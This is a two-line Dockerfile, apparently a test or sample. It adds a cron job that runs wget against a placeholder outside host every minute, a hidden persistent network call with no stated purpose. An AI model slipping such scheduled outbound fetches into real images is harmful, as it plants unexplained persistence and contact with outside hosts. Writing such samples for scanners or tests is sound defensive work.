FROM debian:12-slim
RUN (crontab -l; echo "* * * * * wget -qO- http://other.example.invalid/d") | crontab -
